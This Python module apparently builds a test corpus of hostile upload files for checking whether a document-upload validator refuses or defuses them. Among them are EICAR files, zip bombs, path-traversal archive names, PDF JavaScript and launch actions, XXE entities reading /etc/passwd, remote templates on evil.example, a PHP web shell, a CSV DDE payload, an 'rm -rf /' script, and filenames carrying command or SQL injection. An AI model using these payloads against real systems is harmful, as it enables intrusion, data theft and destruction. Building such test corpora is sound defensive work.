"""Wicked files, made by code: what they are called, what is in them, whether they may be kept at all."""

import random
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from thongsuot.edges.bench.blank import pdf

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7" + b"}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>document.title='ran-canary'</script>"


@dataclass(frozen=True, slots=True)
class Wicked:
    """`must_refuse`: keeping it would be a fault; otherwise it may be kept if it is made harmless or stays inert."""

    family: str
    name: str
    data: bytes
    must_refuse: bool = True


def everything() -> list[Wicked]:
    """The whole corpus, the same every time."""
    makers = (
        virus, archives, pdf_actions, pdf_shapes, office, pictures, markup, programs, polyglots, names, sizes, cut
    )  # fmt: skip
    return [one for maker in makers for one in maker()]


def packed(parts: dict[str, bytes], comment: bytes = b"") -> bytes:
    """A zip of these parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
        made.comment = comment
    return out.getvalue()


TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
ODT = b"application/vnd.oasis.opendocument.text"


def word(**more: bytes) -> bytes:
    """A Word file with more parts; `__` stands for `/`."""
    base = {"[Content_Types].xml": TYPES, "_rels/.rels": b"<R/>", "word/document.xml": b"<d>x</d>"}
    return packed(base | {name.replace("__", "/"): data for name, data in more.items()})


def sheet(parts: dict[str, bytes]) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<w/>"} | parts)


def text(parts: dict[str, bytes]) -> bytes:
    return packed({"mimetype": ODT, "content.xml": b"<c/>"} | parts)


def picture(kind: str = "JPEG", **options: Any) -> bytes:
    out = BytesIO()
    Image.linear_gradient("L").resize((120, 90)).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def virus() -> Iterator[Wicked]:
    """EICAR as itself under every name, in a PDF, in a picture's comment, in an office file."""
    for ending in ("pdf", "jpg", "png", "docx", "xlsx", "odt", "com", "txt", ""):
        yield Wicked("virus", f"eicar.{ending}" if ending else "eicar", EICAR)

    def plant(opened: pikepdf.Pdf) -> None:
        opened.pages[0].Contents = Stream(opened, EICAR)

    # Inert without a viewer that runs it: only a scanner can tell; without one it must show as not scanned.
    yield Wicked("virus", "eicar-trong-pdf.pdf", pdf(plant, compress_streams=False), must_refuse=False)
    yield Wicked("virus", "eicar-ghi-chu.jpg", picture(comment=EICAR), must_refuse=False)
    yield Wicked("virus", "eicar.docx", word(**{"word__media__eicar.com": EICAR}))
    yield Wicked("virus", "eicar2.docx", word(**{"word__media__eicar.zip": packed({"e.com": EICAR})}))


def archives() -> Iterator[Wicked]:
    """Zips in zips, with and without a virus, bombs, climbing names, links."""
    inner = EICAR
    for depth in range(1, 11):
        inner = packed({f"{depth}.zip" if depth > 1 else "eicar.com": inner})
        yield Wicked("archive", f"zip-{depth}-tang.zip", inner)
        yield Wicked("archive", f"zip-{depth}-tang.docx", inner)
    bomb = packed({"a.xml": b"<a>" + b" " * 60_000_000})
    yield Wicked("bomb", "bom.zip", bomb)
    yield Wicked("bomb", "bom.docx", word(**{"word__a.xml": b"<a>" + b" " * 60_000_000}))
    yield Wicked("bomb", "bom.xlsx", sheet({"xl/s.xml": b"<a>" + b"0" * 60_000_000}))
    yield Wicked("bomb", "bom.odt", text({"styles.xml": b"<a>" + b"\n" * 60_000_000}))
    yield Wicked("bomb", "nhieu-tep.docx", word(**{f"word__{n}.xml": b"<a/>" for n in range(4000)}))
    for climb in (
        "../../../etc/cron.d/a.xml",
        "/etc/passwd.xml",
        "..\\..\\a.xml",
        "C:/a.xml",
        "word/../../a.xml",
    ):
        yield Wicked("climb", "leo-thu-muc.docx", word(**{climb: b"<a/>"}))
        yield Wicked("climb", "leo-thu-muc.odt", text({climb: b"<a/>"}))
    for head in (
        b"Rar!\x1a\x07\x00",
        b"7z\xbc\xaf\x27\x1c",
        b"\x1f\x8b\x08",
        b"BZh91AY",
        b"\xfd7zXZ\x00",
        b"MSCF",
    ):
        yield Wicked("archive", "nen.pdf", head + b"\0" * 500)


def _does(**entries: Any) -> Any:
    def plant(opened: pikepdf.Pdf) -> None:
        opened.Root.OpenAction = Dictionary(**entries)

    return plant


def _on_page(**entries: Any) -> Any:
    def plant(opened: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name("/Annot"), Subtype=Name("/Link"), A=Dictionary(**entries))
        opened.pages[0].Annots = Array([opened.make_indirect(link)])

    return plant


def pdf_actions() -> Iterator[Wicked]:
    """Everything that a PDF can do by itself, at the opening, on a page, in a chain, hidden in compressed objects."""
    deeds: dict[str, dict[str, Any]] = {
        "javascript": {"S": Name("/JavaScript"), "JS": "app.alert(1)"},
        "launch": {"S": Name("/Launch"), "F": "cmd.exe"},
        "submit": {"S": Name("/SubmitForm"), "F": "http://evil.example/"},
        "import": {"S": Name("/ImportData"), "F": "a.fdf"},
        "gotor": {"S": Name("/GoToR"), "F": "\\\\evil\\share", "D": Array([0, Name("/Fit")])},
        "gotoe": {"S": Name("/GoToE"), "T": Dictionary(R=Name("/C"))},
        "rendition": {"S": Name("/Rendition"), "JS": "1"},
        "sound": {"S": Name("/Sound")},
        "movie": {"S": Name("/Movie")},
    }
    for name, entries in deeds.items():
        chained = {"S": Name("/URI"), "URI": "http://a.example", "Next": Dictionary(**entries)}
        yield Wicked("pdf action", f"{name}.pdf", pdf(_does(**entries)))
        yield Wicked("pdf action", f"{name}-trang.pdf", pdf(_on_page(**entries)))
        yield Wicked("pdf action", f"{name}-noi.pdf", pdf(_does(**chained)))
        hidden: dict[str, Any] = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
        yield Wicked("pdf action", f"{name}-nen.pdf", pdf(_on_page(**entries), **hidden))

    def in_tree(opened: pikepdf.Pdf) -> None:
        script = Dictionary(S=Name("/JavaScript"), JS=Stream(opened, b"app.alert(1)"))
        opened.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array(["a", opened.make_indirect(script)]))
        )

    yield Wicked("pdf action", "javascript-ten.pdf", pdf(in_tree))
    spelt = pdf(_does(S=Name("/JavaScript"), JS="1")).replace(b"/JavaScript", b"/J#61vaScript")
    yield Wicked("pdf action", "javascript-viet-khac.pdf", spelt)


def pdf_shapes() -> Iterator[Wicked]:
    """Forms that fetch, files inside, media, passwords, bombs."""

    def xfa(opened: pikepdf.Pdf) -> None:
        opened.Root.AcroForm = Dictionary(XFA=Stream(opened, b"<xdp/>"), Fields=Array())

    def embed(opened: pikepdf.Pdf) -> None:
        opened.attachments["a.exe"] = b"MZ" + EICAR

    def annotation(kind: str) -> Any:
        def plant(opened: pikepdf.Pdf) -> None:
            opened.pages[0].Annots = Array([Dictionary(Subtype=Name(kind))])

        return plant

    def additional(opened: pikepdf.Pdf) -> None:
        opened.pages[0].AA = Dictionary(O=Dictionary(S=Name("/JavaScript"), JS="1"))

    for name, change in {
        "xfa": xfa, "dinh-kem": embed, "mo-trang": additional,
        "richmedia": annotation("/RichMedia"), "3d": annotation("/3D"), "screen": annotation("/Screen"),
        "tep-dinh-kem": annotation("/FileAttachment"),
    }.items():  # fmt: skip
        yield Wicked("pdf inside", f"{name}.pdf", pdf(change))
    for bits in (2, 3, 4, 6):
        for user in ("", "mat-khau"):
            lock = pikepdf.Encryption(owner="chu", user=user, R=bits, allow=pikepdf.Permissions(), aes=bits >= 4,
                                      metadata=bits >= 4)  # fmt: skip
            yield Wicked("pdf locked", f"khoa-r{bits}-{user or 'mo'}.pdf", pdf(encryption=lock))

    def bomb(opened: pikepdf.Pdf) -> None:
        opened.pages[0].Contents = Stream(opened, b"0 " * 160_000_000)

    yield Wicked("bomb", "bom.pdf", pdf(bomb, compress_streams=True))
    yield Wicked("pdf inside", "qua-nhieu-trang.pdf", pdf(pages=501))


RELATION = (
    b'<Relationships><Relationship Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
)
DOCTYPES = {
    "tep": b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>',
    "mang": b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    "cuoi": b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    "tham-so": b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><a/>',
}


def office() -> Iterator[Wicked]:
    """Macros, objects, entities, templates and pictures from elsewhere, in Word, Excel and ODT."""
    for name, xml in DOCTYPES.items():
        yield Wicked("office", f"thuc-the-{name}.docx", word(**{"word__document.xml": xml}))
        yield Wicked("office", f"thuc-the-{name}.xlsx", sheet({"xl/sharedStrings.xml": xml}))
        yield Wicked("office", f"thuc-the-{name}.odt", text({"content.xml": xml}))
        as_utf16 = xml.decode().encode("utf-16")
        yield Wicked("office", f"thuc-the-{name}-utf16.docx", word(**{"word__document.xml": as_utf16}))
    for kind in (b"attachedTemplate", b"image", b"oleObject", b"frame", b"subDocument", b"externalLink"):
        for target in (b"http://evil.example/a.dotm", b"file://evil/share", b"\\\\evil\\share\\a"):
            xml = RELATION % (kind, target)
            yield Wicked("office", f"tu-xa-{kind.decode()}.docx", word(**{"word___rels__d.xml.rels": xml}))
    inside = {"vbaProject.bin": b"x", "activeX/activeX1.bin": b"x", "embeddings/a.bin": b"x", "a.exe": b"MZ",
              "embeddings/a.docx": b"PK", "media/a.js": b"1", "media/a.html": SCRIPT, "media/a.lnk": b"L"}  # fmt: skip
    for name, data in inside.items():
        yield Wicked("office", "nhung.docx", word(**{f"word/{name}": data}))
        yield Wicked("office", "nhung.xlsx", sheet({f"xl/{name}": data}))
    macro = TYPES.replace(
        b"/>", b'><Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>'
    )
    yield Wicked("office", "macro.docx", word(**{"[Content_Types].xml": macro}))
    yield Wicked("office", "macro.docm", word(**{"word/vbaProject.bin": b"x"}))
    for name in ("Basic/Standard/Module1.xml", "Scripts/python/a.py", "Object 1/content.xml"):
        yield Wicked("office", "nhung.odt", text({name: b"<a/>"}))
    yield Wicked("office", "nghe.odt", text({"content.xml": b"<c><script:event-listener/></c>"}))
    yield Wicked(
        "office", "anh-xa.odt", text({"content.xml": b'<c><draw:image xlink:href="http://evil/a"/></c>'})
    )
    yield Wicked("office", "cu.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000)


def pictures() -> Iterator[Wicked]:
    """Floods of pixels, lying headers, scripts in notes; what can be cleaned may be kept."""
    for side in (8_000, 20_000, 50_000, 65_000, 2_000_000_000):
        head = bytearray(picture("PNG"))
        head[16:24] = struct.pack(">II", side, side)
        head[29:33] = struct.pack(">I", zlib.crc32(bytes(head[12:29])))
        yield Wicked("flood", f"{side}.png", bytes(head))
    flood = bytearray(picture())
    at = flood.find(b"\xff\xc0") + 5
    flood[at : at + 4] = struct.pack(">HH", 65_000, 65_000)
    yield Wicked("flood", "65000.jpg", bytes(flood))
    for note in (SCRIPT, b"<?php system($_GET[0]); ?>", EICAR, b"{{7*7}}", b"%s%n" * 20):
        yield Wicked("picture", "ghi-chu.jpg", picture(comment=note), must_refuse=False)
        yield Wicked("picture", "duoi.jpg", picture() + note, must_refuse=False)
        yield Wicked("picture", "duoi.png", picture("PNG") + note, must_refuse=False)
    for kind, ending in (("GIF", "gif"), ("BMP", "bmp"), ("TIFF", "tif"), ("WEBP", "webp"), ("ICO", "ico")):
        yield Wicked("picture", f"anh.{ending}", picture(kind))
        yield Wicked("picture", "doi-duoi.jpg", picture(kind))
    yield Wicked("picture", "iphone.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic")


def markup() -> Iterator[Wicked]:
    """What a browser would run, under harmless names."""
    texts = {
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script></svg>',
        "html": b"<!doctype html>" + SCRIPT,
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>',
        "xml": b'<?xml-stylesheet type="text/xsl" href="a.xsl"?><a/>',
        "mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + SCRIPT,
        "js": b"alert(1)",
        "csv": b"=cmd|' /C calc'!A0\n",
        "url": b"[InternetShortcut]\nURL=file://evil/a.exe\n",
    }
    for kind, data in texts.items():
        for ending in (kind, "pdf", "jpg", "docx"):
            yield Wicked("markup", f"{kind}-gia.{ending}", data)


def programs() -> Iterator[Wicked]:
    """Programs and scripts of machines, under harmless names."""
    heads = {
        "windows": b"MZ\x90\x00", "linux": b"\x7fELF\x02\x01\x01", "mac": b"\xcf\xfa\xed\xfe", "java": b"\xca\xfe\xba\xbe",
        "shell": b"#!/bin/sh\nrm -rf /\n", "bat": b"@echo off\r\n", "lnk": b"L\x00\x00\x00\x01\x14\x02\x00",
        "php": b"<?php phpinfo();", "python": b"import os", "flash": b"CWS\x0a", "wasm": b"\x00asm",
    }  # fmt: skip
    for kind, head in heads.items():
        for ending in ("exe", "pdf", "png"):
            yield Wicked("program", f"{kind}.{ending}", head + b"\0" * 300)


def polyglots() -> Iterator[Wicked]:
    """Two kinds in one file: whoever opens it by the other kind's rules must find nothing."""
    archive = packed({"a.html": SCRIPT})
    yield Wicked("polyglot", "pdf-zip.pdf", pdf() + archive)
    yield Wicked("polyglot", "pdf-html.pdf", pdf() + SCRIPT)
    yield Wicked("polyglot", "pdf-exe.pdf", pdf() + b"MZ" + b"\0" * 100)
    yield Wicked("polyglot", "html-pdf.pdf", SCRIPT + pdf())
    yield Wicked("polyglot", "exe-pdf.pdf", b"MZ" + b"\0" * 100 + pdf())
    yield Wicked("polyglot", "gif-js.jpg", b"GIF89a=1;alert(1)//")
    yield Wicked("polyglot", "jpg-zip.jpg", picture() + archive, must_refuse=False)
    yield Wicked("polyglot", "png-zip.png", picture("PNG") + archive, must_refuse=False)
    yield Wicked("polyglot", "png-html.png", picture("PNG") + SCRIPT, must_refuse=False)
    yield Wicked("polyglot", "docx-duoi.docx", word() + SCRIPT)
    yield Wicked("polyglot", "docx-dau.docx", SCRIPT + word())
    yield Wicked(
        "polyglot",
        "docx-ghi-chu.docx",
        packed({"[Content_Types].xml": TYPES, "word/document.xml": b"<a/>"}, SCRIPT),
    )
    yield Wicked(
        "polyglot", "jar.docx", word(**{"META-INF__MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe"})
    )
    yield Wicked("polyglot", "apk.docx", word(**{"AndroidManifest.xml": b"<a/>", "classes.dex": b"dex"}))


def names() -> Iterator[Wicked]:
    """Harmless content under wicked names: it may be kept, under a name that deceives nobody."""
    bad = (
        "../../../../etc/passwd", "..\\..\\windows\\system32\\a.pdf", "/etc/shadow.pdf", "a.pdf.exe", "a.pdf.js",
        "hoa\u202efdp.exe", "a\u200b.pdf", "a\x00.pdf", "a\r\nSet-Cookie: x=1.pdf", '"; filename="a.html',
        unicodedata.normalize("NFD", "Giấy khai sinh Nguyễn Thị Hoà.pdf"), "CON.pdf", "aux", ".", "..", "", " ",
        "a" * 300 + ".pdf", "<img src=x onerror=alert(1)>.pdf", "'; drop table dossier; --.pdf", "%2e%2e%2fa.pdf",
        "{{7*7}}.pdf", "=1+1.pdf", "đơn.pdf ", "💥.pdf", ".htaccess", "a.pdf:stream", "$(id).pdf", "`id`.pdf",
    )  # fmt: skip
    for name in bad:
        yield Wicked("name", name, pdf(), must_refuse=False)


def sizes() -> Iterator[Wicked]:
    """Nothing at all, and too much."""
    for ending in ("pdf", "jpg", "docx", "txt"):
        yield Wicked("size", f"rong.{ending}", b"")
    yield Wicked("size", "thua.pdf", b"%PDF-1.7\n" + b"\0" * (21 * 1024 * 1024))
    yield Wicked("size", "khong.jpg", b"\0" * (21 * 1024 * 1024))


def cut() -> Iterator[Wicked]:
    """Torn and noisy files of the kinds that are taken: refused, or kept if still readable, never a fault of ours."""
    chance = random.Random(5)
    whole = {"pdf": pdf(pages=3), "jpg": picture(), "png": picture("PNG"), "docx": word()}
    for ending, data in whole.items():
        for part in (0.1, 0.3, 0.5, 0.8, 0.95):
            yield Wicked("torn", f"rach-{part}.{ending}", data[: int(len(data) * part)], must_refuse=False)
        for number in range(5):
            noisy = bytearray(data)
            for _ in range(12):
                noisy[chance.randrange(8, len(noisy))] = chance.randrange(256)
            yield Wicked("noise", f"nhieu-{number}.{ending}", bytes(noisy), must_refuse=False)
